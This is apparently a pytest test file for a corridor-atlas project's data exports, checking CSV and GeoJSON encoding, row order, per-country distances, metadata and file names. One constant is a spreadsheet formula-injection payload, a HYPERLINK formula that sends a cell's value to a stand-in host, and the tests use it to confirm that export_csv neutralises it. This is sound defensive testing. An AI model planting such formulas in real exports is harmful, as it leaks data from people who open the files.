"""Exports open cleanly in a spreadsheet, a GIS and code, and carry what the Data page shows: the
same rows in the same order, km per country, the data version and the filters (issues 11, 13)."""

from __future__ import annotations

import csv
import io
import json

import pyogrio
import pytest

from geo.export import NO_COUNTRY, export_csv, exported_files, neutralise
from geo.filter import filter_atlas
from geo.screen import data_screen, data_tables
from geo.urlstate import ViewState

FORMULA = '=HYPERLINK("http://example.com/?x="&A1,"Kashgar")'


def tables(atlas, **filters):
    return data_tables(atlas, filter_atlas(atlas, ViewState(**filters)))


def read_csv(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")  # UTF-8 with a BOM, so a spreadsheet reads 39°28′N
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_csv_is_utf8_with_bom_crlf_and_sites_have_lat_lon_routes_a_bbox(atlas):
    features, _, _ = tables(atlas)
    text = export_csv(features)
    body = text[1:]
    assert body.count("\r\n") >= len(features.rows) + 1 and "\n" not in body.replace("\r\n", "")
    rows = {r["id"]: r for r in read_csv(text)}
    kashgar, cku = rows["kashgar"], rows["cku_railway"]
    assert (float(kashgar["lat"]), float(kashgar["lon"])) == (39.46667, 75.98333)
    assert kashgar["bbox_west"] == "" and cku["lat"] == cku["lon"] == ""
    assert float(cku["bbox_west"]) < float(cku["bbox_east"])
    assert cku["geometry_wkt"].startswith("LINESTRING (75.98333 39.46667")
    assert list(rows["cku_railway"])[-1] == "geometry_wkt"
    # km per country, as the table on screen shows it
    assert cku["km_by_country"] == "KG:256.1;CN:132.5;UZ:33.0"
    assert f"{NO_COUNTRY}:" in rows["middle_corridor"]["km_by_country"]  # the Caspian


def test_a_formula_in_a_name_is_neutralised_and_numbers_are_not(atlas):
    features, _, _ = tables(atlas)
    features.rows.loc[features.rows["id"] == "kashgar", "name"] = FORMULA
    for start in "=+-@\t\r":
        assert neutralise(start + "x") == "'" + start + "x"
    rows = {r["id"]: r for r in read_csv(export_csv(features))}
    assert rows["kashgar"]["name"] == "'" + FORMULA
    assert all(not v.startswith(("=", "+", "@")) for r in rows.values() for v in r.values())
    assert float(rows["kashgar"]["lon"]) > 0  # numbers stay numbers


def test_geojson_features_keep_their_id_and_say_version_and_filters(atlas):
    state = ViewState(countries=("KG",))
    (features, *_) = tables(atlas, countries=("KG",))
    (main,) = exported_files(features, "geojson", state, atlas.version)
    doc = json.loads(main.make())
    assert doc["metadata"]["data_version"] == atlas.version
    assert doc["metadata"]["filters"] == {"country": "KG"}
    assert [f["id"] for f in doc["features"]] == [f["properties"]["id"] for f in doc["features"]]
    assert [f["id"] for f in doc["features"]] == list(features.rows["id"])
    cku = next(f for f in doc["features"] if f["id"] == "cku_railway")
    assert cku["properties"]["km_by_country"] == {"KG": 256.1, "CN": 132.5, "UZ": 33.0}
    assert "bbox" in cku
    assert main.name == f"corridor-atlas_features_country-KG_v{atlas.version}.geojson"


@pytest.mark.parametrize("kinds", [("tunnel",), ("city",), ()])
def test_a_gis_reads_the_date_field_as_one_type_whatever_the_filter(atlas, tmp_path, kinds):
    # All three tunnels' status dates are full days, the cities' are years: GDAL made the field
    # a date for one filter and a string for the other.
    state = ViewState(kinds=kinds)
    (features, *_) = data_tables(atlas, filter_atlas(atlas, state))
    path = tmp_path / "f.geojson"
    path.write_text(exported_files(features, "geojson", state, atlas.version)[0].make())
    info = pyogrio.read_info(path)
    types = dict(zip(info["fields"], info["dtypes"], strict=True))
    assert types["status_as_of"] == "datetime64[D]"
    assert types["status_as_of_precision"] == "object"


def test_every_table_exports_the_rows_shown_in_the_same_order(atlas):
    screen = data_screen(atlas, ViewState(countries=("KZ",)))
    for tab in screen.tabs:
        key = tab.table.rows.columns[0]
        main, table_csv, sidecar = tab.files
        csv_rows = read_csv(table_csv.make())
        assert [r[key] for r in csv_rows] == [str(v) for v in tab.table.rows[key]]
        assert len(tab.table.screen) == len(csv_rows)
        doc = json.loads(main.make())
        records = doc["features"] if tab.table.what == "features" else doc[tab.table.what]
        assert [r[key] for r in records] == list(tab.table.rows[key])
        assert doc["metadata"]["filters"] == {"country": "KZ"}
        assert json.loads(sidecar.make())["metadata"] == doc["metadata"]
    features, events, passages = (t.table for t in screen.tabs)
    routes = features.rows["lat"].isna()  # routes first, then sites
    assert list(features.rows["id"][routes]) == ["middle_corridor", "tianjin_freight"]
    assert routes.tolist() == sorted(routes.tolist(), reverse=True)
    assert list(events.rows["start"]) == sorted(events.rows["start"])
    assert events.rows["features"].map(type).eq(list).all()


def test_file_names_and_the_csv_sidecar_say_what_is_in_them(atlas):
    screen = data_screen(atlas, ViewState(countries=("KG",), kinds=("tunnel", "city")))
    names = [f.name for tab in screen.tabs for f in tab.files]
    v = atlas.version
    assert names == [
        f"corridor-atlas_features_country-KG_kind-tunnel+city_v{v}.geojson",
        f"corridor-atlas_features_country-KG_kind-tunnel+city_v{v}.csv",
        f"corridor-atlas_features_country-KG_kind-tunnel+city_v{v}.csv-metadata.json",
        f"corridor-atlas_events_country-KG_kind-tunnel+city_v{v}.json",
        f"corridor-atlas_events_country-KG_kind-tunnel+city_v{v}.csv",
        f"corridor-atlas_events_country-KG_kind-tunnel+city_v{v}.csv-metadata.json",
        f"corridor-atlas_passages_country-KG_kind-tunnel+city_v{v}.json",
        f"corridor-atlas_passages_country-KG_kind-tunnel+city_v{v}.csv",
        f"corridor-atlas_passages_country-KG_kind-tunnel+city_v{v}.csv-metadata.json",
    ]
    sidecar = json.loads(screen.tabs[0].files[2].make())
    assert sidecar["url"] == names[1]
    assert sidecar["metadata"]["filters"] == {"country": "KG", "kind": "tunnel,city"}
    assert sidecar["metadata"]["data_version"] == v
    assert [c["name"] for c in sidecar["tableSchema"]["columns"]][-1] == "geometry_wkt"
